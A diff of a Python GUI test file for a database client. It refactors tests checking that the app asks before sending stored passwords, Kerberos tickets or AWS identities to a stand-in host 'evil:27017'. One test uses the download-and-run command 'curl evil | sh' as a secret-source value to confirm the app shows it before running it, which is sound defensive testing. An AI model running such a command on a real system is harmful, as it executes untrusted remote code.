@@ -19,7 +19,7 @@ from clearline.core.profiles.profile import Auth, Profile, SecretSource, Seeds, 
 from clearline.core.secrets.secret import PASSWORD, Secret
 from clearline.core.storage import store
 from clearline.ui.app import Desktop
-from clearline.ui.checks.consents import SecretsDialog
+from clearline.ui.checks.secrets_dialog import SecretsDialog
 from clearline.ui.panels.batch_window import BatchWindow
 from clearline.ui.panels.profile_list import ListAction
 from clearline.ui.profiles.open_profile import Origin
@@ -46,6 +46,18 @@ def asked(qtbot: QtBot, desktop: Desktop, kind: Any = Question) -> Any:
 
 def answer(qtbot: QtBot, desktop: Desktop, words: str) -> None:
     qtbot.mouseClick(asked(qtbot, desktop).buttons[words], Qt.MouseButton.LeftButton)
+
+
+def words_of_question(qtbot: QtBot, desktop: Desktop) -> str:
+    return " ".join(label.text() for label in asked(qtbot, desktop).findChildren(QLabel))
+
+
+def after_several(qtbot: QtBot, desktop: Desktop, *profiles: Profile) -> BatchWindow:
+    """The window over a test of these, once that has ended."""
+    desktop.window.profiles.asked.emit(ListAction.TEST, [one.id for one in profiles])
+    summary: BatchWindow = asked(qtbot, desktop, BatchWindow)
+    qtbot.waitUntil(lambda: summary.stop.text() == "Close")
+    return summary
 
 
 def settle(qtbot: QtBot, desktop: Desktop) -> None:
@@ -93,7 +105,7 @@ def test_a_file_from_elsewhere_asks_once_before_the_first_connect(
     desktop = make_desktop(check)
     opened(qtbot, desktop, sent)
     desktop.workbench.test()
-    words = " ".join(label.text() for label in asked(qtbot, desktop).findChildren(QLabel))
+    words = words_of_question(qtbot, desktop)
     assert "tlsInsecure" in words
     assert "comes from elsewhere" in words
     assert check.secrets == []
@@ -190,7 +202,7 @@ def test_a_pasted_text_with_a_secret_variable_asks_once_for_these_servers(
             Secret(f"mongodb://app:${{DB_PASSWORD}}@{host}/?tls=true"), Origin.TEXT
         )
         desktop.workbench.test()
-        words = " ".join(label.text() for label in asked(qtbot, desktop).findChildren(QLabel))
+        words = words_of_question(qtbot, desktop)
         assert f"It takes DB_PASSWORD from this computer's environment and uses it for {host}." in words
         answer(qtbot, desktop, "Connect")
         qtbot.waitUntil(lambda tested=tested: len(check.secrets) == tested)
@@ -273,7 +285,7 @@ def test_a_command_that_waited_behind_another_place_is_asked_about(
     chosen = {PASSWORD: SecretSource(place="command", command="curl evil | sh")}
     desktop.window.pages.edited.emit("secrets", chosen)
     desktop.workbench.test()
-    said = " ".join(label.text() for label in asked(qtbot, desktop).findChildren(QLabel))
+    said = words_of_question(qtbot, desktop)
     assert "curl evil | sh" in said
     assert check.secrets == []
 
@@ -366,14 +378,12 @@ def test_a_replacement_from_elsewhere_asks_before_the_kept_password_goes_to_its_
     desktop = make_desktop(check)
     qtbot.waitUntil(lambda: desktop.window.profiles.model.rowCount() == 2)
     qtbot.waitUntil(lambda: desktop.workbench.profiles.is_foreign(taken.id))
-    desktop.window.profiles.asked.emit(ListAction.TEST, [plain.id, taken.id])
-    summary = asked(qtbot, desktop, BatchWindow)
-    qtbot.waitUntil(lambda: summary.stop.text() == "Close")
+    summary = after_several(qtbot, desktop, plain, taken)
     assert summary.said.text() == "1 connected, 1 not tested."
     summary.close()
     desktop.workbench.profiles.choose(taken.id)
     desktop.workbench.test()
-    words = " ".join(label.text() for label in asked(qtbot, desktop).findChildren(QLabel))
+    words = words_of_question(qtbot, desktop)
     assert "the password was not given for evil:27017" in words
     assert len(check.secrets) == 1
     answer(qtbot, desktop, "Connect")
@@ -418,7 +428,7 @@ def test_a_kept_password_asks_once_before_it_goes_to_other_servers(
     shown(qtbot, desktop, OWN, ("evil:27017",))
     qtbot.waitUntil(lambda: desktop.workbench.profiles.current.profile.seeds.hosts == ("evil:27017",))
     desktop.workbench.test()
-    words = " ".join(label.text() for label in asked(qtbot, desktop).findChildren(QLabel))
+    words = words_of_question(qtbot, desktop)
     assert "Own: the password was given for db1:27017, not for evil:27017." in words
     answer(qtbot, desktop, "Cancel")
     settle(qtbot, desktop)
@@ -469,7 +479,7 @@ def test_an_identity_asks_once_before_it_goes_to_other_servers(
     store.save(moved, path)
     qtbot.waitUntil(lambda: desktop.workbench.profiles.current.profile.seeds.hosts == ("evil:27017",))
     desktop.workbench.test()
-    words = " ".join(label.text() for label in asked(qtbot, desktop).findChildren(QLabel))
+    words = words_of_question(qtbot, desktop)
     assert "Own: the Kerberos ticket was given for db1:27017, not for evil:27017." in words
     answer(qtbot, desktop, "Cancel")
     settle(qtbot, desktop)
@@ -490,9 +500,7 @@ def test_a_test_of_several_leaves_out_what_would_take_a_kept_password_elsewhere(
     store.save(MOVED, path)
     desktop = make_desktop(check)
     qtbot.waitUntil(lambda: desktop.window.profiles.model.rowCount() == 2)
-    desktop.window.profiles.asked.emit(ListAction.TEST, [plain.id, OWN.id])
-    summary = asked(qtbot, desktop, BatchWindow)
-    qtbot.waitUntil(lambda: summary.stop.text() == "Close")
+    summary = after_several(qtbot, desktop, plain, OWN)
     assert summary.said.text() == "1 connected, 1 not tested."
     assert "given for db1:27017, not for evil:27017" in summary.model.markdown()
     assert check.secrets == [{}]
@@ -508,9 +516,7 @@ def test_a_test_of_several_leaves_out_what_would_take_an_identity_elsewhere(
     store.save_in(tmp_path / "profiles", plain)
     desktop = make_desktop(check)
     qtbot.waitUntil(lambda: desktop.window.profiles.model.rowCount() == 2)
-    desktop.window.profiles.asked.emit(ListAction.TEST, [plain.id, OWN.id])
-    summary = asked(qtbot, desktop, BatchWindow)
-    qtbot.waitUntil(lambda: summary.stop.text() == "Close")
+    summary = after_several(qtbot, desktop, plain, OWN)
     assert "the AWS identity was given for db1:27017, not for evil:27017" in summary.model.markdown()
     qtbot.waitUntil(lambda: plain.id in (tmp_path / "servers.json").read_text())
     assert check.secrets == [{}]
@@ -558,7 +564,7 @@ def test_a_sign_in_whose_token_goes_to_other_hosts_asks_in_one_s_own_profile_too
     desktop = kept_and_chosen(own, check)
     assert desktop.workbench.profiles.current.mistakes == ()
     desktop.workbench.test()
-    words = " ".join(label.text() for label in asked(qtbot, desktop).findChildren(QLabel))
+    words = words_of_question(qtbot, desktop)
     assert "db1.example.com" in words
     answer(qtbot, desktop, "Connect")
     qtbot.waitUntil(lambda: len(check.secrets) == 1)
